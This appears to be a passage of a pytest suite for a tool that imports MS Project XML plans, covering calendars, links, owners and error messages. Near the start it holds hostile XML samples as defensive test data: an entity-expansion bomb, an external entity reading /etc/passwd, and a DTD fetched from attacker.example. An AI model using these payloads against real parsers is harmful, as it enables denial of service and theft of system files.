        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        f'<Project xmlns="{NS}"><Name>&c;</Name></Project>'
    ),
    "external entity": (
        '<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        f'<Project xmlns="{NS}"><Name>&secret;</Name></Project>'
    ),
    "external DTD": (
        '<?xml version="1.0"?><!DOCTYPE Project SYSTEM "http://attacker.example/project.dtd">'
        f'<Project xmlns="{NS}"><Name>Plan</Name></Project>'
    ),
}


@pytest.mark.parametrize("attack", sorted(HOSTILE))
def test_hostile_xml_is_refused_before_anything_is_read(tmp_path: Path, attack: str) -> None:
    path = tmp_path / "plan.xml"
    path.write_text(HOSTILE[attack], encoding="utf-8")

    assert refusal(path) == (
        "plan.xml declares its own entities or a DTD (DTDForbidden); plans never need them and they can be "
        "used to attack the computer reading the file, so it was not read."
    )


def test_a_file_over_100_mb_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    with path.open("wb") as file:
        file.truncate(100 * 1024 * 1024 + 1)  # sparse: no disk is spent

    assert refusal(path) == "huge.xml is 100 MB; plans larger than 100 MB are not imported."


def test_a_binary_mpp_is_refused_by_its_suffix_and_by_its_signature(tmp_path: Path) -> None:
    mpp = tmp_path / "Plan.mpp"
    mpp.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    renamed = tmp_path / "Plan.xml"
    renamed.write_bytes(mpp.read_bytes())

    assert refusal(mpp) == (
        "Plan.mpp is an MS Project file in its own binary format (.mpp), which cannot be read here: save it "
        "as XML from MS Project (File → Save As → XML) or ProjectLibre, and import that."
    )
    assert refusal(renamed) == (
        "Plan.xml is not XML but a binary MS Project file (.mpp) renamed; save it as XML from MS Project "
        "(File → Save As → XML) or ProjectLibre, and import that."
    )


def test_a_missing_file_is_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path / "gone.xml") == f"There is no plan file at {tmp_path / 'gone.xml'}."


def test_the_reader_accepts_a_path_as_text(tmp_path: Path) -> None:
    source = read_ms_project_xml(os.fspath(FILES / "projectlibre.xml"))

    assert len(source.tasks) == 7


def test_without_minutes_per_day_a_days_length_comes_from_the_calendar(tmp_path: Path) -> None:
    times = (
        "<WorkingTimes><WorkingTime><FromTime>09:00:00</FromTime><ToTime>12:30:00</ToTime></WorkingTime>"
        "<WorkingTime><FromTime>13:30:00</FromTime><ToTime>17:30:00</ToTime></WorkingTime></WorkingTimes>"
    )
    week = "".join(
        f"<WeekDay><DayType>{day}</DayType><DayWorking>{int(day not in (1, 7))}</DayWorking>"
        f"{times if day not in (1, 7) else ''}</WeekDay>"
        for day in range(1, 8)
    )
    tasks = task(1, "A") + task(2, "B", body=link(1, 1, 9000, 7))  # 900 minutes: two 7.5-hour days

    source = read_ms_project_xml(mspdi(tmp_path, tasks, header="", calendar=f"<WeekDays>{week}</WeekDays>"))

    assert source.links == [SourceLink("UID 1", "UID 2", DependencyType.FS, 2)]


def test_a_project_that_does_not_say_it_is_scheduled_from_its_start_states_no_target_finish(
    tmp_path: Path,
) -> None:
    header = "<StartDate>2027-01-04T08:00:00</StartDate><FinishDate>2027-06-30T17:00:00</FinishDate>"

    source = read_ms_project_xml(mspdi(tmp_path, task(1, "Work"), header=header))

    assert (source.start, source.finish) == (date(2027, 1, 4), None)


def test_exceptions_over_centuries_cost_only_the_plans_years(tmp_path: Path) -> None:
    def exception(name: str, first: str, last: str, kind: int, extra: str = "") -> str:
        return (
            f"<Exception><TimePeriod><FromDate>{first}T00:00:00</FromDate><ToDate>{last}T23:59:00</ToDate>"
            f"</TimePeriod><Occurrences>0</Occurrences><Name>{name}</Name><Type>{kind}</Type>{extra}"
            "<DayWorking>0</DayWorking></Exception>"
        )

    exceptions = (
        exception("Moratorium", "1900-01-01", "2027-01-05", 1)  # a range ending in the plan's year
        + exception("Every 100 days", "1900-01-01", "9999-12-31", 7, "<Period>100</Period>")
        + exception("Odd month", "1900-01-01", "2027-01-12", 2, "<Month>14</Month><MonthDay>1</MonthDay>")
    )
    calendar = f"<WeekDays>{STANDARD_WEEK}</WeekDays><Exceptions>{exceptions}</Exceptions>"
    path = mspdi(tmp_path, task(1, "Work", start="2027-01-04", finish="2027-03-31"), calendar=calendar)

    source = read_ms_project_xml(path)

    # Every 100 days from 1900-01-01 falls in 2027 on 15 January, 25 April, 3 August and 11 November;
    # a yearly recurrence in a month that does not exist (14) reads as the range of days it spans.
    assert source.calendar is not None
    assert source.calendar.non_working_days == {
        date(2027, 1, 1): "Moratorium",
        date(2027, 1, 2): "Moratorium",
        date(2027, 1, 3): "Moratorium",
        date(2027, 1, 4): "Moratorium",
        date(2027, 1, 5): "Moratorium",
        date(2027, 1, 6): "Odd month",
        date(2027, 1, 7): "Odd month",
        date(2027, 1, 8): "Odd month",
        date(2027, 1, 9): "Odd month",
        date(2027, 1, 10): "Odd month",
        date(2027, 1, 11): "Odd month",
        date(2027, 1, 12): "Odd month",
        date(2027, 1, 15): "Every 100 days",
        date(2027, 4, 25): "Every 100 days",
        date(2027, 8, 3): "Every 100 days",
        date(2027, 11, 11): "Every 100 days",
    }


def test_a_derived_calendar_working_on_its_bases_holiday_keeps_the_day_worked(tmp_path: Path) -> None:
    def holiday(day: str, working: int, times: str = "") -> str:
        return (
            f"<WeekDay><DayType>0</DayType><DayWorking>{working}</DayWorking><TimePeriod><FromDate>{day}"
            f"T00:00:00</FromDate><ToDate>{day}T23:59:00</ToDate></TimePeriod>{times}</WeekDay>"
        )

    odd_times = (  # a time of day MS Project would not write: that period is not counted
        "<WorkingTimes><WorkingTime><FromTime>8h</FromTime><ToTime>12:00</ToTime></WorkingTime></WorkingTimes>"
    )
    path = tmp_path / "derived.xml"
    path.write_text(
        f'<Project xmlns="{NS}"><CalendarUID>3</CalendarUID><Calendars>'
        f"<Calendar><UID>1</UID><Name>Standard</Name><IsBaseCalendar>1</IsBaseCalendar><WeekDays>{STANDARD_WEEK}"
        f"{holiday('2027-05-03', 0)}{holiday('2027-05-31', 0)}</WeekDays></Calendar>"
        "<Calendar><UID>3</UID><Name>Cutover team</Name><IsBaseCalendar>0</IsBaseCalendar>"
        "<BaseCalendarUID>1</BaseCalendarUID>"
        f"<WeekDays>{holiday('2027-05-03', 1, odd_times)}</WeekDays></Calendar>"
        "</Calendars><Tasks><Task><UID>1</UID><ID>1</ID><Name>Work</Name><Start>2027-05-03T08:00:00</Start>"
        "</Task></Tasks></Project>",
        encoding="utf-8",
    )

    source = read_ms_project_xml(path)

    assert source.calendar is not None
    assert source.calendar.non_working_days == {date(2027, 5, 31): ""}
    assert source.notices == []  # a Monday worked is no change to the working week


def test_a_plan_read_over_many_chunks_loses_nothing_at_their_edges(tmp_path: Path) -> None:
    # The field definitions straddle the end of the first chunk, and 1,200 tasks run over many more.
    padding = "<Author>" + "x" * (CHUNK_BYTES - 420) + "</Author>"
    definitions = (
        "<ExtendedAttributes>"
        + "".join(
            f"<ExtendedAttribute><FieldID>{field_id}</FieldID><FieldName>Text{n}</FieldName>"
            f"<Alias>{alias}</Alias></ExtendedAttribute>"
            for n, field_id, alias in (
                (1, 188743731, "Team"),
                (2, 188743734, "Stream"),
                (3, 188743737, "Site"),
            )
        )
        + "</ExtendedAttributes>"
    )
    team = "<ExtendedAttribute><FieldID>188743731</FieldID><Value>Team {}</Value></ExtendedAttribute>"
    tasks = "".join(
        task(uid, f"Phase {uid}")
        if uid % 100 == 1
        else task(uid, f"Step {uid}", level=2, body=link(uid - 1) + team.format(uid // 100))
        for uid in range(1, 1201)
    )
    header = f"<MinutesPerDay>480</MinutesPerDay>{padding}{definitions}"

    source = read_ms_project_xml(mspdi(tmp_path, tasks, header=header))

    assert len(source.tasks) == 1200
    assert [t.source_id for t in source.tasks] == [f"UID {uid}" for uid in range(1, 1201)]
    assert sum(t.is_summary for t in source.tasks) == 12
    assert all(
        t.parent_id == f"UID {(uid - 1) // 100 * 100 + 1}"
        for uid, t in enumerate(source.tasks, 1)
        if uid % 100 != 1
    )
    assert all(
        t.groupings == {"Team": f"Team {uid // 100}"}
        for uid, t in enumerate(source.tasks, 1)
        if uid % 100 != 1
    )
    assert len(source.links) == 1188
    assert source.grouping_choices == [OUTLINE, "Team"]
    assert source.shape == "mspdi|Site|Stream|Team"
    assert (source.problems, source.notices) == ([], [])


def test_unreadable_project_dates_and_lags_are_problems(tmp_path: Path) -> None:
    header = (
        "<ScheduleFromStart>1</ScheduleFromStart><StartDate>next spring</StartDate>"
        "<FinishDate>2027-02-30T17:00:00</FinishDate><MinutesPerDay>480</MinutesPerDay>"
    )
    bad_lag = (
        "<PredecessorLink><PredecessorUID>1</PredecessorUID><Type>1</Type><LinkLag>a while</LinkLag>"
        "<LagFormat>7</LagFormat></PredecessorLink>"
    )

    source = read_ms_project_xml(mspdi(tmp_path, task(1, "A") + task(2, "B", body=bad_lag), header=header))

    assert [str(p) for p in source.problems] == [
        "plan.xml, column StartDate: the project's start cannot be read: 'next spring' is not a date",
        "plan.xml, column FinishDate: the project's finish cannot be read: "
        "'2027-02-30T17:00:00' is not a date",
        "plan.xml, row 2, column PredecessorLink: the link from UID 1 to UID 2 'B': "
        "its lag 'a while' is not a number",
    ]
    assert (source.start, source.finish, source.links) == (None, None, [])


def test_owner_rules_for_odd_assignments(tmp_path: Path) -> None:
    def resource(uid: int, name: str, kind: int = 1, group: str = "") -> str:
        return (
            f"<Resource><UID>{uid}</UID><ID>{uid}</ID><Name>{name}</Name><Type>{kind}</Type>"
            f"<Group>{group}</Group></Resource>"
        )

    def assignment(uid: int, task_uid: int, resource_uid: int, units: str = "") -> str:
        stated = f"<Units>{units}</Units>" if units else ""
        return (
            f"<Assignment><UID>{uid}</UID><TaskUID>{task_uid}</TaskUID><ResourceUID>{resource_uid}</ResourceUID>"
            f"{stated}</Assignment>"
        )

    resources = (
        resource(1, "Ann Lee", group="Cards")
        + resource(2, "Ann Lee", group="Cards")
        + resource(3, "Budget", kind=2)
    )
    assignments = (
        assignment(1, 1, 1, "0.5")
        + assignment(2, 1, 3, "1")  # a cost resource: never an owner
        + assignment(3, 2, 2)  # no <Units>: a full-time assignment
        + assignment(4, 2, 1, "0.25")
        + assignment(5, 3, 1, "1")  # the task is inactive
        + assignment(6, 3, 2, "1")
        + assignment(7, 99, 1, "1")  # no such task
    )
    tasks = task(1, "Design") + task(2, "Build") + task(3, "Retire", body="<Active>0</Active>")

    source = read_ms_project_xml(
        mspdi(
            tmp_path,
            tasks,
            after=f"<Resources>{resources}</Resources><Assignments>{assignments}</Assignments>",
        )
    )

    assert [(t.owner, t.groupings) for t in source.tasks] == [
        ("Ann Lee", {"Resource Group": "Cards"}),
        ("Ann Lee", {"Resource Group": "Cards"}),
        (None, {}),
    ]
    assert source.people == [SourcePerson("Ann Lee", None, "Cards")]  # one person, named twice
    assert notices(source.notices) == [
        "plan.xml, row 2, column Assignments: UID 2 'Build' has 2 people assigned "
        "(Ann Lee 100%, Ann Lee 25%): Ann Lee is taken as its owner"
    ]
